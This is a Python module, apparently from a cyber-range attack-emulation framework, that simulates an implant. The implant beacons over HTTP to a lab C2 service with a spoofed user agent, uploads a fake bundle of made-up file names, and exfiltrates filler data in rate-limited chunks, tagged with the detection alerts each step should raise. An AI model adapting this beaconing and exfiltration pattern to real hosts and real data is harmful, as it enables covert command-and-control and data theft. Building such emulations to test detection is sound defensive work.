"""The published method's implant: it comes online, gathers, and sends away. It starts from an infected host.

The far end is a service of kind ``c2`` on the outside.
"""

from __future__ import annotations

import time

from labs.scenario import Stage
from labs.services.c2 import BEACONS

from .base import Exchange, Means, Observable, Pace, Receipt, Red
from .kit import (
    COLLECTION,
    COMMAND_AND_CONTROL,
    CURL,
    EXFILTRATION,
    Bounds,
    dice,
    exchange,
    number,
    observable,
    obtained,
    port_of,
    receipt,
)
from .web import Request, curl

C2_PORT = 8080
AGENT = (("User-Agent", "Mozilla/4.0 (compatible; MSIE 6.0; lab-agent)"),)
PIECE_BYTES = 65536
EXFIL_ALERT_EVERY = 4
MOST_BEACONS = 30


def _send(red: Red, stage: Stage, request: Request) -> str:
    """What the far end answers; nothing when it is out of reach."""
    done = red.run(curl(stage, request, default_port=C2_PORT), timeout_s=6, stdin=request.body)
    return done.stdout


def _name(stage: Stage) -> str:
    return f"{dice(stage).getrandbits(32):08x}"


class ImplantBeacon(Means):
    """The implant reports in until it is given a task. Parameters: ``beacons``, ``interval_ms``."""

    id = "implant-beacon"
    pauses = (Pace("interval_ms", 200, 1000),)
    about = "An implant reports to its server over HTTP"
    tactic = COMMAND_AND_CONTROL
    technique = "T1071.001"
    service_kinds = ("c2",)
    tools = (CURL,)
    countered_by = ()  # no role knows the implant

    def exchanges(self, stage: Stage) -> tuple[Exchange, ...]:
        """A connection for each beacon."""
        return (exchange(stage, port_of(stage, C2_PORT)),)

    def observables(self, stage: Stage) -> tuple[Observable, ...]:
        """An alert for each beacon."""
        count = self._beacons(stage)
        return (observable(9001040, "command-and-control", self.technique, app_protocol="http", count=count),)

    def run(self, red: Red, stage: Stage) -> Receipt:
        """At most `MOST_BEACONS` beacons."""
        started = red.clock_s()
        request = Request(target=f"/b/{_name(stage)}", headers=AGENT)
        said = ""
        for number_of_it in range(self._beacons(stage)):
            if number_of_it:
                time.sleep(number(stage, "interval_ms", 200, 2000) / 1000)
            if not (said := _send(red, stage, request)):
                break
        return receipt(red, stage, started, canary=obtained(red, stage, said), detail=said)

    @staticmethod
    def _beacons(stage: Stage) -> int:
        return max(BEACONS, number(stage, "beacons", 5, MOST_BEACONS))


class ImplantCollect(Means):
    """The implant bundles files and hands them over; the bundle is a head and made-up names. Parameter: ``files``."""

    id = "implant-collect"
    about = "An implant bundles local data and hands over the bundle"
    tactic = COLLECTION
    technique = "T1005"
    service_kinds = ("c2",)
    tools = (CURL,)
    countered_by = ()  # no role knows the implant

    def exchanges(self, stage: Stage) -> tuple[Exchange, ...]:
        """One connection."""
        return (exchange(stage, port_of(stage, C2_PORT)),)

    def observables(self, stage: Stage) -> tuple[Observable, ...]:
        """Its own rule, once."""
        return (observable(9001041, "policy-violation", self.technique, app_protocol="http"),)

    def run(self, red: Red, stage: Stage) -> Receipt:
        """One bundle."""
        started = red.clock_s()
        thrown = dice(stage)
        names = "\n".join(f"report-{thrown.randrange(1000):03d}.txt" for _ in range(number(stage, "files", 20, 500)))
        request = Request(method="POST", target=f"/c/{_name(stage)}", headers=AGENT, body=f"PK\x03\x04{names}")
        said = _send(red, stage, request)
        return receipt(red, stage, started, canary=obtained(red, stage, said), detail=said)


class ExfilC2(Means):
    """Data leaves in pieces over the channel of the beacons. Parameters: ``kbytes``, ``kbytes_per_s``."""

    id = "exfil-c2"
    paces = (Pace("kbytes_per_s", 256, 64),)
    about = "Data sent to the implant's server in pieces"
    tactic = EXFILTRATION
    technique = "T1041"
    service_kinds = ("c2",)
    tools = (CURL,)
    countered_by = ()  # no role knows the implant

    def exchanges(self, stage: Stage) -> tuple[Exchange, ...]:
        """All the data must pass."""
        total, rate = self._pieces(stage) * PIECE_BYTES, self._rate(stage)
        port = port_of(stage, C2_PORT)
        return (exchange(stage, port, bytes_needed=total, bytes_per_s=rate, patience_s=Bounds.SECONDS),)

    def observables(self, stage: Stage) -> tuple[Observable, ...]:
        """An alert for every fourth piece."""
        count = max(1, self._pieces(stage) // EXFIL_ALERT_EVERY)
        return (observable(9001042, "policy-violation", self.technique, app_protocol="http", count=count),)

    def run(self, red: Red, stage: Stage) -> Receipt:
        """At most `Bounds.BYTES` in `Bounds.SECONDS`."""
        started, pieces = red.clock_s(), self._pieces(stage)
        body = "lab " * (PIECE_BYTES // 4)
        target = f"/d/{_name(stage)}?total={pieces * PIECE_BYTES}"
        request = Request(method="POST", target=target, headers=AGENT, body=body)
        said = ""
        for _ in range(pieces):
            began = red.clock_s()
            if not (said := _send(red, stage, request)) or red.clock_s() - started > Bounds.SECONDS:
                break
            time.sleep(max(0.0, PIECE_BYTES / self._rate(stage) - (red.clock_s() - began)))
        return receipt(red, stage, started, canary=obtained(red, stage, said), detail=said)

    @staticmethod
    def _pieces(stage: Stage) -> int:
        return max(EXFIL_ALERT_EVERY, number(stage, "kbytes", 512, Bounds.BYTES >> 10) * 1024 // PIECE_BYTES)

    @staticmethod
    def _rate(stage: Stage) -> int:
        return number(stage, "kbytes_per_s", 256, 4096) * 1024
